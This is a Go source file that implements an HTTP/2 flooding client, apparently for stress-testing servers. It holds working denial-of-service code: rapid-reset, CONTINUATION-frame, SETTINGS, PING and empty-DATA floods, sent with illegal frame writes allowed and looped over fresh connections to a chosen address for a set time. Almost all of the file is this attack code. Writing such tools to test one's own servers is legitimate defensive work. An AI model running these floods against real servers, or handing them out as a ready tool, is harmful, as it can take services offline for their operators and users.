//go:build linux

package main

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker is a client of HTTP/2 that writes what frames it likes.
type attacker struct {
	*http2.Framer
	text bytes.Buffer
	pack *hpack.Encoder
	id   uint32 // of the last stream
}

// attacks are what it writes again and again.
var attacks = map[string]func(*attacker) error{
	"rapid reset": func(a *attacker) error {
		return errors.Join(a.request(true), a.WriteRSTStream(a.id, http2.ErrCodeCancel))
	},
	"continuation": func(a *attacker) error {
		a.text.Reset()
		_ = a.pack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 1000), Sensitive: true}) // into memory
		return errors.Join(a.first(), a.WriteContinuation(a.id, false, a.text.Bytes()))
	},
	"empty continuation": func(a *attacker) error { return errors.Join(a.first(), a.WriteContinuation(a.id, false, nil)) },
	"settings":           func(a *attacker) error { return a.WriteSettings() },
	"ping":               func(a *attacker) error { return a.WritePing(false, [8]byte{}) },
	"empty data":         func(a *attacker) error { return a.WriteRawFrame(http2.FrameData, 0, 1, nil) },
}

// first opens a stream whose head does not end, once.
func (a *attacker) first() error {
	if a.id > 0 {
		return nil
	}
	text := bytes.Clone(a.text.Bytes())
	err := a.request(false)
	a.text.Reset()
	a.text.Write(text)
	return err
}

// request opens a stream.
func (a *attacker) request(whole bool) error {
	a.text.Reset()
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "a"}, {Name: ":path", Value: "/"}} {
		_ = a.pack.WriteField(f) // into memory
	}
	a.id = max(1, a.id+2)
	a.id |= 1
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.id, BlockFragment: a.text.Bytes(), EndStream: true, EndHeaders: whole})
}

// attackFor attacks for a while, on another connection whenever one is lost.
func attackFor(length time.Duration, kind, address string) {
	for end := time.Now().Add(length); time.Now().Before(end); {
		conn, err := net.Dial("tcp", address)
		if err != nil {
			time.Sleep(time.Millisecond) // it has no room for us; nor would it have if we asked faster
			continue
		}
		_ = conn.SetDeadline(end)
		attack(conn, attacks[kind])
		_ = conn.Close() // whatever is in it
	}
}

func attack(conn net.Conn, flood func(*attacker) error) {
	a := &attacker{Framer: http2.NewFramer(conn, conn)}
	a.AllowIllegalWrites = true
	a.pack = hpack.NewEncoder(&a.text)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || a.WriteSettings() != nil {
		return
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // an attacker who does not read is soon held back; ends with conn
	for flood(a) == nil {
	}
}
